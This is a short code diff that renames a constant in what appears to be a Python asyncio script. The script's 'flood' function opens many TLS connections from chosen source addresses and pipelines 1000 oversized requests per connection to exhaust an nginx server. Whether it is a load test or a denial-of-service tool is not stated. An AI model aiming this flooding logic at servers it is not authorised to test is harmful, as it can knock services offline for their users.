@@ -7,7 +7,7 @@ import json
 import ssl
 from pathlib import Path
 
-AT_ONCE = 1000  # nginx closes a connection after as many (keepalive_requests)
+REQUESTS_PER_CONNECTION = 1000  # nginx closes a connection after as many (keepalive_requests)
 REQUEST = f"GET /internal/{'x' * 900} HTTP/1.1\r\nHost: x\r\nUser-Agent: {'y' * 900}\r\n\r\n".encode()
 
 
@@ -17,7 +17,7 @@ def flood(host: str, port: int, source: str, thousands: int, context: ssl.SSLCon
     async def ask() -> None:
         for _ in range(thousands):
             reader, writer = await asyncio.open_connection(host, port, ssl=context, local_addr=(source, 0))
-            writer.write(REQUEST * AT_ONCE)
+            writer.write(REQUEST * REQUESTS_PER_CONNECTION)
             while await reader.read(1 << 20):
                 pass
             writer.close()
